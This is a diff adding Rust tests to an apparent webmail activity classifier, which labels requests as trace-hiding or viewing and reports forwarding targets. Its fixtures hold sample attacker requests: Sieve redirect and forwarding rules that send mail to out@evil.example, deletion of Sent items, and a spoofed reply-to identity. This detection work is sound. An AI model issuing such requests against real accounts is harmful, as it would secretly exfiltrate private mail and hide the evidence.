@@ -696,3 +696,54 @@ fn what_is_fetched_from_the_product_is_named_by_the_form_and_nothing_else_gets_i
     assert_eq!(resent("_uid=8&_mbox=A%26_save%3D1"), Some(format!("{source}A%26_save%3D1")));
     assert_eq!(resent("_mbox=INBOX"), None);
 }
+
+#[test]
+fn what_hides_traces_is_told_from_tidying_elsewhere() {
+    for (url, body, expected) in [
+        ("/?_task=mail&_action=delete", "_uid=3&_mbox=Sent&_remote=1", "hide traces"),
+        ("/?_task=mail&_action=move", "_uid=3&_mbox=INBOX%2FSent+Items&_target_mbox=Trash&_remote=1", "hide traces"),
+        ("/?_task=mail&_action=mark", "_uid=3&_flag=delete&_mbox=Sent&_remote=1", "hide traces"),
+        ("/?_task=settings&_action=purge", "_mbox=Sent&_remote=1", "hide traces"),
+        ("/?_task=mail&_action=mark", "_uid=3&_flag=flagged&_mbox=Sent&_remote=1", "view"),
+        ("/?_task=mail&_action=delete", "_uid=3&_mbox=INBOX&_remote=1", "view"),
+        ("/?_task=mail&_action=move", "_uid=3&_mbox=INBOX&_target_mbox=Sent&_remote=1", "view"),
+        ("/?_task=mail&_action=list&_mbox=Sent&_remote=1", "", "view"),
+    ] {
+        let request = if body.is_empty() { Request::get(url) } else { Request::post(url, body) };
+        assert_eq!(action(request), expected, "{url} {body}");
+    }
+}
+
+#[test]
+fn an_operator_is_told_where_mail_goes_and_what_was_touched() {
+    for (url, body, expected) in [
+        (
+            "/",
+            "_task=settings&_action=save-identity&_iid=1&_name=Boss&_email=ceo%40bank.example&_reply-to=a%40b.example\
+             &_bcc=&_signature=see+https%3A%2F%2Fevil.example",
+            &["ceo@bank.example", "a@b.example", "a signature with a link"][..],
+        ),
+        (
+            "/",
+            "_task=settings&_action=plugin.managesieve-save&_framed=1&_fid=&_name=x&_action_type%5B0%5D=redirect\
+             &_action_target%5B0%5D=out%40evil.example&_action_type%5B1%5D=discard",
+            &["out@evil.example"],
+        ),
+        (
+            "/?_task=settings&_action=plugin.managesieve-saveraw",
+            "_set=x&rawsetcontent=redirect+%22out%40evil.example%22%3B",
+            &["out@evil.example"],
+        ),
+        (
+            "/?_task=settings&_action=plugin.managesieve-forward",
+            "forward_action=copy&action_target=out%40evil.example&forward_status=on&_remote=1",
+            &["out@evil.example"],
+        ),
+        ("/?_task=mail&_action=delete", "_uid=3&_mbox=Sent&_remote=1", &["folder Sent"]),
+        ("/?_task=addressbook&_action=export&_source=0&_token=t", "", &[]),
+        ("/?_task=mail&_action=viewsource&_uid=3&_mbox=INBOX&_save=1", "", &["folder INBOX"]),
+    ] {
+        let request = if body.is_empty() { Request::get(url) } else { Request::post(url, body) };
+        assert_eq!(request.targets_of(WEBMAIL), expected, "{url} {body}");
+    }
+}
